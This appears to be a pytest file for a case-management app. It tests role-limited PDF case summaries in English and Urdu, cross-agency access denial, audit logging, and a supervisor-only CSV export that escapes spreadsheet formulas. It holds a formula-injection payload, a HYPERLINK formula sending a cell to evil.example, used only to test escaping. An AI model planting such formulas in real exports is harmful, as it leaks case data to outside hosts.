"""Print and export: the case summary PDF holds what its reader may see (in English or Urdu), the
case list CSV is for supervisors and cannot be made to run formulas; both audited, neither file
named after a person."""

from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa
from factories import PASSWORD, PersonFactory, make_case
from factories import attachments as files
from pypdf import PdfReader

from rihai.access.models import AuditEvent
from rihai.cases import service as cases
from rihai.cases.attachments import service as attachments
from rihai.cases.exports import service
from rihai.cases.exports.csv_safe import safe_cell
from rihai.cases.schemas import NoteCreate
from rihai.errors import Forbidden, NotFound

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def text_of(pdf: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)


@pytest.fixture
def case(db, world):  # type: ignore[no-untyped-def]
    cw = world.actor("caseworker")
    c = make_case(db, cw, person=PersonFactory(given_name="Printable", family_name="Person (TEST)"))
    cases.add_note(db, cw, c.id, data=NoteCreate(kind="psychosocial", body="Counselling note (TEST)"))
    cases.add_note(db, cw, c.id, data=NoteCreate(kind="investigation", body="Statement taken (TEST)"))
    attachments.add_attachment(db, cw, c.id, kind="medical", data=files.clean_pdf(), title="Clinic report (TEST)")
    attachments.add_attachment(db, cw, c.id, kind="legal", data=files.clean_pdf(), title="FIR copy (TEST)")
    cases.assign(db, world.actor("supervisor"), c.id, user_id=world.users["investigator"].id)
    return c


def test_the_summary_holds_what_the_reader_may_see(db, world, case) -> None:
    mine = service.case_summary_pdf(db, world.actor("caseworker"), case.id, locale="en")
    text = text_of(mine.data)
    assert "Printable" in text and case.reference in text
    assert "Counselling note" in text and "Clinic report" in text and "FIR copy" in text
    theirs = text_of(service.case_summary_pdf(db, world.actor("investigator"), case.id, locale="en").data)
    assert "Statement taken" in theirs and "FIR copy" in theirs
    assert "Counselling note" not in theirs and "Clinic report" not in theirs
    assert mine.filename == f"case-{case.reference}-summary-en.pdf" and "Printable" not in mine.filename
    event = db.scalars(sa.select(AuditEvent).where(AuditEvent.tag == "cases:case:print")
                       .order_by(AuditEvent.seq.desc()).limit(1)).one()
    assert "summary.notes" in event.fields and "Printable" not in str(event.fields)


def test_the_summary_in_urdu(db, world, case) -> None:
    pdf = service.case_summary_pdf(db, world.actor("caseworker"), case.id, locale="ur")
    reader = PdfReader(io.BytesIO(pdf.data))
    assert reader.metadata.title.endswith(case.reference)
    fonts = {str(f["/BaseFont"]) for p in reader.pages
             for f in (p["/Resources"].get("/Font") or {}).values() if "/BaseFont" in f.get_object()}
    assert any("Naskh" in f for f in fonts), fonts
    assert pdf.filename.endswith("-ur.pdf")


def test_another_agency_cannot_print_the_case(db, world, case) -> None:
    with pytest.raises(NotFound):
        service.case_summary_pdf(db, world.actor("other_caseworker"), case.id, locale="en")


def test_safe_cell_follows_owasp() -> None:
    for bad in ("=1+1", "+92300", "-11.3", "@SUM(A1)", "\tx", "\rx", HYPERLINK):
        assert safe_cell(bad).startswith("'"), bad
    assert safe_cell("Ayesha") == "Ayesha" and safe_cell(None) == "" and safe_cell(24) == "24"


def test_the_case_list_csv_is_formula_safe_and_for_supervisors_only(db, world) -> None:
    cw = world.actor("caseworker")
    c = make_case(db, cw, person=PersonFactory(given_name=HYPERLINK, family_name=None))
    with pytest.raises(Forbidden):
        service.case_list_csv(db, cw)
    out = service.case_list_csv(db, world.actor("supervisor"))
    rows = list(csv.reader(io.StringIO(out.data.decode("utf-8-sig"))))
    assert rows[0][0] == "reference"
    mine = next(r for r in rows if r[0] == c.reference)
    assert mine[3] == "'" + HYPERLINK
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    assert out.filename.startswith("cases-") and ".csv" in out.filename
    event = db.scalars(sa.select(AuditEvent).where(AuditEvent.tag == "cases:case:export")).one()
    assert str(c.id) in [str(i) for i in event.related_ids]


def test_downloads_over_http(make_browser, db, committed_world) -> None:
    c = make_case(db, committed_world.actor("caseworker"))
    db.commit()
    b = make_browser()
    b.login(committed_world.users["supervisor"].username, PASSWORD)
    r = b.get(f"/cases/{c.id}/summary.pdf?lang=ur")
    assert r.status_code == 200 and r.content.startswith(b"%PDF")
    assert r.headers["content-disposition"] == f'attachment; filename="case-{c.reference}-summary-ur.pdf"'
    assert "no-store" in r.headers["cache-control"] and r.headers["x-content-type-options"] == "nosniff"
    r = b.get("/exports/cases.csv?status=Active")
    assert r.status_code == 200 and c.reference in r.text
    cw = make_browser()
    cw.login(committed_world.users["caseworker"].username, PASSWORD)
    assert cw.get("/exports/cases.csv").status_code == 403
    assert "Download the list (CSV)" in b.get("/").text and "Download the list (CSV)" not in cw.get("/").text
